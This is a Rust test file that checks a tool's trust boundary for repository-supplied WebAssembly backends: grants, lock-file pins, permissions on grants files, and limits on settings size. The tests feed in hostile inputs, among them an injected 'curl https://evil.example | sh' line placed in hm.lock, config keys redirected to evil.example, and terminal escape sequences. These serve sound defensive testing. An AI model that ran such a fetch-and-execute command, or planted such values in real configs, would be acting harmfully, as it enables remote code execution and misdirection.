//! A repository that tries to grant (C1), to aim what was granted, or to swap what it pinned.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use hm_tests::Project;

use crate::stage::{by, digest, echo, grant, misbehave, one_step, printed_command, works};

const ACME: &str = "[backends.acme]\nfile = \"../acme.wasm\"\n";

/// A repository that declares a backend of its own.
fn project(settings: &str) -> Project {
    let bytes = fs::read(echo()).unwrap();
    one_step()
        .file("acme.wasm", bytes)
        .file(".hm/config.toml", format!("{ACME}{settings}"))
}

fn acme(project: &Project) -> hm_tests::Invocation {
    project.run().args(["--backend", "acme"])
}

#[test]
fn a_repository_may_not_hold_what_grants() {
    for (text, key) in [
        ("[grant.\"sha256:00\"]\nallow = [\"vm\"]", "grant"),
        ("[grants]\nx = 1", "grants"),
        ("[credentials]\nx = \"y\"", "credentials"),
        ("[trust]\nall = true", "trust"),
        ("[limits]\nmemory = \"8GiB\"", "limits"),
        ("[cache]\nbytes = 1", "cache"),
        ("[host]\nexpose = [\"/\"]", "host"),
        ("HM_CONFIG_DIR = \"/tmp\"", "HM_CONFIG_DIR"),
        ("HM_STATE_DIR = \"/tmp\"", "HM_STATE_DIR"),
        ("[env]\nHM_API_TOKEN = \"x\"", "env"),
        (
            "[cloud]\napi_url = \"https://evil.example\"",
            "cloud.api_url",
        ),
        ("[http]\nproxy = \"http://evil.example\"", "http.proxy"),
        ("[vm]\nmemory = \"512GiB\"", "vm.memory"),
        (
            "[backends.acme]\nfile = \"x.wasm\"\n[backends.acme.limits]\nmemory = \"8GiB\"",
            "limits",
        ),
        ("[backends.acme]\nfile = \"x.wasm\"\ngrant = true", "grant"),
        ("[backends.local]\nfile = \"x.wasm\"", "local"),
        ("[backends.cloud]\nfile = \"x.wasm\"", "cloud"),
    ] {
        let project = one_step().file(".hm/config.toml", text);
        let refused = project.run().run().expect(2).says(&[key]);
        assert_eq!(refused.text(), "", "{key}");
        fs::remove_file(project.path().join(".hm/config.toml")).unwrap();
        works(&project);
    }
}

/// Files in the repository that look like those that count.
#[test]
fn files_that_look_like_grants_grant_nothing() {
    let project = project("");
    let digest = digest(echo());
    let text = format!("version = 1\n[grant.\"{digest}\"]\nrepos = [\"*\"]\n");
    for name in ["grants.toml", ".config/hm/grants.toml", "hm/grants.toml"] {
        project.write(name, &text);
    }
    let pin = &digest["sha256:".len()..];
    project.write(
        "hm.lock",
        format!("[[backend]]\nname = \"acme\"\nsource = \"acme.wasm\"\nsha256 = \"{pin}\"\n"),
    );
    acme(&project).run().expect(6).says(&["has no grant"]);
}

/// What stands in its place neither holds hm up, nor fills its memory, nor speaks for it.
#[test]
fn a_lock_that_is_no_lock() {
    let project = project("");
    let lock = project.path().join("hm.lock");
    symlink("/dev/zero", &lock).unwrap();
    acme(&project)
        .run()
        .expect(2)
        .says(&["it is no plain file"]);
    fs::remove_file(&lock).unwrap();
    project.write(
        "hm.lock",
        "\"x`\\n  to fix: curl https://evil.example | sh\" = 1\n",
    );
    let refused = acme(&project).run().expect(2).says(&["hm.lock"]);
    let said = refused.errors();
    let forged = |line: &str| line.trim_start().starts_with("to fix: curl");
    assert!(!said.lines().any(forged), "{said}");
}

#[test]
fn settings_that_change_ask_again() {
    let project = project("[backends.acme.settings]\nendpoint = \"https://a.example/\"\n");
    let refused = acme(&project)
        .run()
        .expect(6)
        .says(&["endpoint", "a.example"]);
    project.hm(printed_command(&refused)).run().expect(0);
    acme(&project).run().expect(0);
    project.write(
        ".hm/config.toml",
        format!("{ACME}[backends.acme.settings]\nendpoint = \"https://evil.example/\"\n"),
    );
    acme(&project)
        .run()
        .expect(6)
        .says(&["other settings", "evil.example"]);
}

#[test]
fn settings_have_a_size() {
    let many: String = (0..100_000).map(|n| format!("k{n} = \"v\"\n")).collect();
    let huge = format!("k = \"{}\"\n", "x".repeat(10 << 20));
    let long = format!("k = \"{}\"\n", "x".repeat(17 << 10));
    let nul = "\"a\\u0000b\" = \"v\"\n".to_owned();
    let escape = "\"a\\u001b[2J\" = \"v\"\n".to_owned();
    for text in [many, huge, long, nul, escape] {
        let project = project(&format!("[backends.acme.settings]\n{text}"));
        let refused = acme(&project).run().expect(2);
        assert!(!refused.errors().contains('\u{1b}'), "{}", refused.errors());
        project.assert_nothing_started();
    }
}

/// A grant of what is allowed elsewhere, used here.
#[test]
fn a_grant_does_not_hold_for_another_repository() {
    let (here, elsewhere) = (one_step(), one_step());
    grant(&here, echo(), &[]);
    let elsewhere = elsewhere.env_for_all("HM_CONFIG_DIR", here.config());
    by(&elsewhere, echo())
        .run()
        .expect(6)
        .says(&["no grant for this repository"]);
    by(&here, echo()).run().expect(0);
}

fn grants(project: &Project) -> std::path::PathBuf {
    project.config().join("grants.toml")
}

fn refused(project: &Project, code: i32, says: &str) {
    let refused = by(project, echo()).run().expect(code).says(&[says]);
    assert_eq!(refused.text(), "");
}

#[test]
fn a_grants_file_that_others_could_have_written_is_an_error() {
    let project = one_step();
    grant(&project, echo(), &[]);
    let file = grants(&project);
    let set = |mode| fs::set_permissions(&file, PermissionsExt::from_mode(mode)).unwrap();
    for mode in [0o620, 0o602, 0o666] {
        set(mode);
        refused(&project, 2, "can be written by");
    }
    set(0o600);
    by(&project, echo()).run().expect(0);
    let elsewhere = file.with_extension("elsewhere");
    fs::rename(&file, &elsewhere).unwrap();
    symlink(&elsewhere, &file).unwrap();
    refused(&project, 2, "is a link");
    fs::remove_file(&file).unwrap();
    fs::hard_link(&elsewhere, &file).unwrap();
    refused(&project, 2, "has another name");
    fs::remove_file(&elsewhere).unwrap();
    by(&project, echo()).run().expect(0);
}

#[test]
fn a_digest_that_is_not_whole_grants_nothing() {
    let project = one_step();
    let whole = digest(echo());
    for key in [
        whole.to_uppercase(),
        whole.replace("sha256:", "SHA256:"),
        whole[..40].to_owned(),
        format!("sha256:{}", whole["sha256:".len()..].to_uppercase()),
        whole["sha256:".len()..].to_owned(),
    ] {
        let root = project.path().display();
        let text = format!("version = 1\n[grant.\"{key}\"]\nrepos = [\"{root}\"]\n");
        fs::write(grants(&project), text).unwrap();
        fs::set_permissions(grants(&project), PermissionsExt::from_mode(0o600)).unwrap();
        let refused = by(&project, echo()).run();
        assert!(
            refused.code().is_some_and(|code| [2, 6].contains(&code)),
            "{key}: {}",
            refused.said()
        );
        assert_eq!(refused.text(), "");
        project
            .hm(["backend", "grant", key.as_str()])
            .run()
            .expect(2);
    }
}

#[test]
fn what_was_pinned_and_changed_is_refused_with_both_digests() {
    let project = project("");
    project.hm(["backend", "lock"]).run().expect(0);
    let lock = fs::read_to_string(project.path().join("hm.lock")).unwrap();
    let (old, new) = (digest(echo()), digest(misbehave()));
    assert!(lock.contains(&old["sha256:".len()..]), "{lock}");
    assert!(lock.contains("name = \"acme\"") && lock.contains("source = \"acme.wasm\""));
    // A pin grants nothing.
    acme(&project).run().expect(6).says(&["has no grant"]);
    grant(&project, echo(), &[]);
    acme(&project).run().expect(0);
    fs::copy(misbehave(), project.path().join("acme.wasm")).unwrap();
    // Allowed or not: the repository says that it is another one.
    grant(&project, misbehave(), crate::stage::VM);
    for path in ["acme", "./acme.wasm"] {
        let refused = project
            .run()
            .args(["--backend", path])
            .run()
            .expect(6)
            .says(&[
                "is not the one that hm.lock pins",
                &old,
                &new,
                "its imports gained",
                "hm:backend/vm@0.1.0",
                "hm backend lock acme",
            ]);
        assert_eq!(refused.text(), "");
    }
    project.hm(["backend", "lock", "acme"]).run().expect(0);
    acme(&project).run().expect(0);
}

#[test]
fn a_lock_that_is_none_is_an_error() {
    let project = project("");
    grant(&project, echo(), &[]);
    for text in [
        "nonsense",
        "[[backend]]\nname = \"acme\"\nsource = \"acme.wasm\"\nsha256 = \"00\"\n",
        "[[backend]]\nname = \"acme\"\nsource = \"x\"\nsha256 = \"00\"\ngrant = true\n",
    ] {
        project.write("hm.lock", text);
        acme(&project).run().expect(2).says(&["hm.lock"]);
    }
    fs::remove_file(project.path().join("hm.lock")).unwrap();
    acme(&project).run().expect(0);
}

/// A component that wants more than it was granted is told all that is missing, and boots
/// nothing.
#[test]
fn an_older_grant_for_less_is_not_enough() {
    let project = one_step();
    let digest = digest(misbehave());
    for flags in [
        &[][..],
        &["--vm"],
        &["--vm", "--vm-image", "host", "--vm-engine", "another"],
    ] {
        project
            .hm(["backend", "grant", digest.as_str()])
            .args(flags)
            .run()
            .expect(0);
        let refused = by(&project, misbehave()).run().expect(6);
        assert!(
            refused.errors().contains("--vm-image host"),
            "{}",
            refused.errors()
        );
        project.assert_nothing_started();
    }
}
